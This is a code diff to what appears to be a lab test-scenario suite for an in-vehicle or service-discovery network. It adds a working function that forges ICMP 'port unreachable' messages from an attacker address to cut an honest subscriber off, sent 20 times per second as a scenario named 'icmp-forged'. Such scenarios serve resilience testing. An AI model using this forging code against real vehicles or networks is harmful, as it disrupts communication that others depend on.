@@ -2,7 +2,8 @@
 import socket
 import struct
 
-from lab import ADDRESS
+from attacker import CAR, pace
+from lab import ADDRESS, ATTACKERS
 from scenario import scenario
 from wire import SD_PORT
 
@@ -26,3 +27,29 @@ def send_twice():
 def duplicated(world):
     world.honest("clouds_in", "clouds_out", "clouds_out_tcp", "events_in")
     world.beside(send_twice, host="honest")
+
+
+def checksum(data):
+    total = sum(struct.unpack(f">{len(data) // 2}H", data))
+    while total > 0xffff:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+def forge_unreachable(rate, port, to_port):
+    """Says that nobody is where the bridge sends from `port`, at the honest host's `to_port`: from the attacker's own
+    address."""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    raw.bind((ATTACKERS[0], 0))
+    quoted = struct.pack(">BBHHHBBH4s4sHHHH", 0x45, 0, 28, 1, 0, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(CAR),
+                         socket.inet_aton(ADDRESS["honest"]), port, to_port, 8, 0)
+    message = struct.pack(">BBHI", 3, 3, 0, 0) + quoted
+    message = message[:2] + struct.pack(">H", checksum(message)) + message[4:]
+    for _ in pace(rate):
+        raw.sendto(message, (CAR, 0))
+
+
+@scenario("icmp-forged", 8, "20 ICMP messages/s say that the subscriber is not there, from the attacker's own address")
+def icmp_forged(world):
+    world.honest("events_out", "clouds_out", "events_in")
+    world.beside(forge_unreachable, 20, 40002, 45002)
